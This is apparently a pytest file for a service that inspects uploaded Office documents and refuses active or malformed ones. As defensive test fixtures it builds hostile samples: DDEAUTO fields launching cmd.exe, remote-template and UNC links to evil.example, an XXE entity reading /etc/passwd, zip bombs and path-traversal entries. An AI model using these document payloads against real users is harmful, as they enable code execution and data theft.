"""Which office files are kept, and why others are refused."""

from __future__ import annotations

import os
import struct
from io import BytesIO
from zipfile import ZIP_BZIP2, ZipFile, ZipInfo

import pytest

from storage.inspection.fields import MAX_PART
from storage.inspection.inspect import inspect
from storage.inspection.kinds import OLE
from tests.made_files import GOOD, MAIN, OFFICE, RELATIONS, office, relations, types, zipped
from tests.unit.inspection_refusals import ALL, reason


@pytest.mark.parametrize("kind", ["docx", "xlsx"])
def test_links_and_pictures_in_an_office_file_are_fine(kind: str) -> None:
    links = relations(
        ("hyperlink", "https://bps.go.id", True), ("image", "media/1.png", False), ("oleObject", "a.bin", False)
    )
    assert (
        inspect(
            "a", office(kind, {"word/_rels/document.xml.rels": links, "word/embeddings/a.bin": b"MathType"}), ALL
        ).kind
        == kind
    )


#: the same relation with a namespace prefix
PREFIXED = f"""<p:Relationships xmlns:p="{RELATIONS}">
<p:Relationship Id="r1" Type="{OFFICE}/oleObject" TargetMode="External" Target="file://evil/share"/></p:Relationships>"""
MACRO_TYPE = '<Override PartName="/x" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'


@pytest.mark.parametrize(
    "sent",
    [
        office("docx", {"word/vbaProject.bin": b"x"}),
        office("xlsx", {"xl/VBAPROJECT.BIN": b"x"}),
        office("docx", {"word/_rels/document.xml.rels": relations(("vbaProject", "picture.png", False))}),
        office("docx", more_types=MACRO_TYPE),
        office("xlsx", {"xl/macrosheets/sheet1.xml": "<x/>"}),
    ],
)  # fmt: skip
def test_an_active_office_file_is_refused(sent: bytes) -> None:
    assert reason(sent) == "macro"


def related(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    """A Word file with a relation to something outside of the file."""
    return office("docx", {part: relations((kind, target, True))})


def field(*codes: str, part: str = "word/header1.xml", encoding: str = "utf-8") -> bytes:
    """A Word file with one field, whose instruction is split into runs."""
    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{code}</w:instrText></w:r>" for code in codes)
    begin = "<w:r><w:fldChar w:fldCharType='begin'/></w:r>"
    return office("docx", {part: f"<w:hdr xmlns:w='w'><w:p>{begin}{runs}</w:p></w:hdr>".encode(encoding)})


def two_fields(first: str, second: str) -> bytes:
    begin = "</w:instrText></w:r><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>"
    return field(first + begin + second)


def simple_field(code: str) -> bytes:
    return office("docx", {"word/document.xml": f"<w:p xmlns:w='w'><w:fldSimple w:instr='{code}'/></w:p>"})


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        *((related(kind, "https://evil.example/a.dotm"), "outside")
          for kind in ("oleObject", "attachedTemplate", "frame", "subDocument", "OLEOBJECT", "image")),
        (related("attachedTemplate", r"\\evil\share\a.dotm"), "outside"),
        (related("attachedTemplate", "file://evil/share/a.dotm"), "outside"),
        (related("attachedTemplate", "file:///%5C%5Cevil/share/a.dotm"), "outside"),
        (related("hyperlink", "file://evil/share/a.docx"), "outside"),
        (office("xlsx", {"xl/_rels/x.RELS": PREFIXED}), "outside"),
        (field(" DDEAUTO c:\\Windows\\cmd.exe "), "dde"),
        (field(" DD", "E excel a b "), "dde"),
        (field(" D&#68;&#x45;AUTO cmd "), "dde"),
        (field("<![CDATA[DDEAUTO cmd]]>"), "dde"),
        (two_fields("PAGE", "DDEAUTO cmd"), "dde"),
        (simple_field("&#68;DE cmd"), "dde"),
        (field(" DDEAUTO cmd ", part="word/kepala.bin"), "dde"),
        (field(" DDEAUTO cmd ", encoding="utf-16-le"), "dde"),
        (field(r' INCLUDEPICTURE "\\\\evil\\share\\a.png" \* MERGEFORMAT '), "outside"),
        (field(' INCLUDE', 'TEXT "https://evil.example/a.docx" '), "outside"),
        (simple_field('LINK Excel.Sheet.12 "file://evil/share/a.xlsx" A1'), "outside"),
        (field(r' HYPERLINK "\\\\evil\\share" '), "outside"),
        (office("xlsx", {"xl/externalLinks/externalLink1.xml": "<x:ddeLink xmlns:x='x' ddeService='cmd'/>"}), "dde"),
        (office("docx", {"word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='a'/>"}), "embedded"),
        (office("docx", {"word/_rels/document.xml.rels": relations(("control", "x.xml", False))}), "embedded"),
        (office("docx", {"word/embeddings/a.bin": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}), "embedded"),
        (office("docx", {"word/embeddings/a.bin": b"MZ" + bytes(99)}), "embedded"),
        (office("docx", {"word/Embeddings/a.bin": b"MZ" + bytes(99)}), "embedded"),
        (office("docx", {"word/media/a.png": b"\1\0" + "\1Ole10Native".encode("utf-16-le") + b"MZ"}), "embedded"),
        (office("docx", {"word/embeddings/a.docm": office("docx", {"word/vbaProject.bin": b"x"})}), "macro"),
        (office("docx", {"word/_rels/document.xml.rels": relations(("aFChunk", "a.html", False))}), "embedded"),
    ],
)  # fmt: skip
def test_what_an_office_file_reaches_for_is_named(sent: bytes, why: str) -> None:
    assert reason(sent) == why


@pytest.mark.parametrize(
    "sent",
    [
        related("attachedTemplate", "file:///C:\\Users\\ani\\Kop%20Surat.dotx"),
        related("attachedTemplate", "Kop.dotx"),
        related("oleObject", "file:///D:/data/Tabel.xlsx"),
        related("hyperlink", "mailto:ani@example.go.id"),
        related("hyperlink", "file:///C:/data/Tabel.xlsx"),
        field(" PAGE ", " HYPERLINK https://bps.go.id ", " DATE \\@ dd "),
        field(r' HYPERLINK "https://bps.go.id" \l "_Toc1" \* MERGEFORMAT '),
        field(r' LINK Excel.Sheet.12 "D:\\data\\Tabel.xlsx" A1 \f 0 '),
        field(' ADDIN ZOTERO {"uri": "https://zotero.org/1", "title": "DDE dan //contoh"} '),
        office("docx", {"word/comments.xml": "<w:t>DDE adalah singkatan</w:t>"}),
    ],
)
def test_what_an_office_has_on_its_own_computer_is_taken(sent: bytes) -> None:
    assert inspect("a.docx", sent, ALL).kind == "docx"


def test_a_part_with_fields_that_is_longer_than_a_book_is_a_bomb() -> None:
    elements = b"<a/>" * (MAX_PART // 4)
    part = b"<w:p xmlns:w='w'><w:instrText>PAGE</w:instrText>" + elements + b"</w:p>"
    assert reason(office("docx", {"word/header1.xml": part, "word/media/a.png": os.urandom(MAX_PART // 150)})) == "bomb"


def test_an_office_file_behind_a_password_is_encrypted() -> None:
    assert reason(OLE + bytes(1_000) + "EncryptedPackage".encode("utf-16-le") + bytes(500)) == "encrypted"
    flagged = bytearray(office("docx"))
    flagged[flagged.index(b"PK\x01\x02") + 8] |= 1
    assert reason(bytes(flagged)) == "encrypted"


def many_entries() -> bytes:
    return office("docx", {f"word/{number}": b"" for number in range(2_000)})


def lying_about_sizes() -> bytes:
    """The table of contents declares 10 bytes; the entry unpacks to 50 MB."""
    sent = bytearray(office("docx", {"word/a": bytes(50_000_000)}))
    for mark, name_at, size_at in ((b"PK\x03\x04", 30, 22), (b"PK\x01\x02", 46, 24)):
        at = sent.index(b"word/a", sent.index(mark)) - name_at
        while sent[at : at + 4] != mark:
            at = sent.index(b"word/a", at + name_at + 1) - name_at
        struct.pack_into("<I", sent, at + size_at, 10)
    return bytes(sent)


@pytest.mark.parametrize(
    ("sent", "why"),
    [
        (office("docx", {"word/a": os.urandom(1_500_000) + bytes(210_000_000)}), "bomb"),
        (office("docx", {"word/a": bytes(5_000_000)}), "bomb"),
        (many_entries(), "bomb"),
        (lying_about_sizes(), "damaged"),
        (zipped({"a.txt": bytes(250_000_000)}), "bomb"),
    ],
    ids=["sum", "ratio", "entries", "lie", "no office file"],
)
def test_an_archive_that_unpacks_to_very_much_is_refused_unread(sent: bytes, why: str) -> None:
    assert len(sent) < 2_000_000
    assert reason(sent) == why


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "word\\..\\..\\x", "C:/x", "word/../../x"])
def test_an_entry_that_leaves_its_folder_is_refused(name: str) -> None:
    assert reason(office("docx", {name: b"x"})) == "damaged"


def test_two_entries_of_one_name_are_refused() -> None:
    assert reason(office("docx", {"WORD/document.xml": "<other/>"})) == "damaged"


def test_a_method_that_no_office_program_uses_is_refused() -> None:
    part, content_type = MAIN["docx"]
    assert reason(zipped({"[Content_Types].xml": types(part, content_type)}, ZIP_BZIP2)) == "damaged"


def test_a_changed_byte_in_an_office_file_is_damage() -> None:
    sent = bytearray(GOOD["docx"])
    entry = ZipFile(BytesIO(GOOD["docx"])).getinfo("word/document.xml")
    sent[entry.header_offset + 30 + len(entry.filename) + 20] ^= 0xFF
    assert reason(bytes(sent)) == "damaged"
    assert reason(GOOD["docx"][:-30]) == "damaged"


@pytest.mark.parametrize(
    "declared",
    [
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        '<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">',
    ],
)
def test_entities_and_outside_declarations_are_refused(declared: str) -> None:
    part, content_type = MAIN["docx"]
    listed = types(part, content_type).replace("?>", "?>" + declared, 1)
    assert reason(zipped({"[Content_Types].xml": listed, part: "<x/>"})) == "damaged"


def test_a_file_that_is_two_kinds_at_once_is_none() -> None:
    part, content_type = MAIN["xlsx"]
    assert reason(office("docx", more_types=f'<Override PartName="/{part}" ContentType="{content_type}"/>')) == "kind"


def test_a_template_is_not_a_document() -> None:
    listed = types("word/document.xml", MAIN["docx"][1].replace("document.main", "template.main"))
    assert reason(zipped({"[Content_Types].xml": listed})) == "kind"


def test_a_folder_entry_is_fine() -> None:
    out = BytesIO(GOOD["docx"])
    with ZipFile(out, "a") as archive:
        archive.writestr(ZipInfo("word/media/"), b"")
    assert inspect("a.docx", out.getvalue(), ALL).kind == "docx"
